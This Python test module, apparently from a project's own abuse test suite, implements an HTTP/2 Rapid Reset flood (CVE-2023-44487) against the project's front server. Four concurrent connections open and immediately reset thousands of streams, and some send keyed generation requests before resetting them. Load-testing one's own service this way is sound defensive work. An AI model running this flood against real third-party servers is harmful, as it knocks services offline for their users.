"""Rapid resets (CVE-2023-44487): streams that are reset at once, before their body and right after it."""

from __future__ import annotations

import asyncio
import itertools
import time
from collections.abc import Iterator
from contextlib import suppress

from tests.abuse.attack import Attack, Dose, Outcome
from tests.abuse.target import FRONT, GENERATE, Target
from tests.raw_frames import data_frames, framed, headers_frames, rapid_resets, request_block, reset_frame
from tests.raw_http2 import RawConnection

ATTACKERS = 4
PER_CONNECTION = 2_500
WHOLE_EVERY = 5
"""One in so many connections sends whole requests with a right key before it resets them: they cost work."""


async def rapid(target: Target, dose: Dose) -> Outcome:
    """Open and reset, over four connections at a time, until count and time are over."""
    outcome = Outcome()
    callers = itertools.cycle(target.callers().values())
    per_connection = min(PER_CONNECTION, dose.count // 8)
    until_s = time.monotonic() + dose.seconds

    async def one(number: int) -> None:
        block = request_block(GENERATE, next(callers))
        parts = rapid_resets(block, per_connection)
        if number % WHOLE_EVERY == 0:
            keyed = request_block(GENERATE, target.callers()["right key"])
            parts = _whole(keyed, target.request(output_tokens=50), per_connection // 10)
        with suppress(OSError, TimeoutError):
            async with RawConnection.connect(target.address(FRONT)) as connection:
                outcome.did["connections"] += 1
                outcome.did["streams"] += await connection.flood(parts)
                with suppress(TimeoutError, ConnectionError):
                    await connection.ping(timeout_s=10.0)
                outcome.saw["connections closed"] += connection.is_closed
                outcome.saw["resets of the peer"] += connection.frames["RstStreamFrame"]
                outcome.saw["refused"] += connection.frames["HeadersFrame"]

    async def attacker(first: int) -> None:
        number = first
        while outcome.did["streams"] < dose.count or time.monotonic() < until_s:
            await one(number)
            number += ATTACKERS

    async with asyncio.TaskGroup() as group:
        for first in range(ATTACKERS):
            group.create_task(attacker(first))
    return outcome


def _whole(block: bytes, request: bytes, count: int) -> Iterator[bytes]:
    """Yield whole requests, each followed by its reset."""
    for stream in range(1, 1 + 2 * count, 2):
        frames = (*headers_frames(stream, block), *data_frames(stream, framed(request), end_stream=True))
        yield b"".join(frame.serialize() for frame in (*frames, reset_frame(stream)))


RAPID = Attack(
    name="rapid-reset",
    about="Streams that are reset as soon as they are opened, a fifth of the connections with whole requests",
    run=rapid,
    long=Dose(120_000, 30.0),
    short=Dose(2_000, 0.0),
)
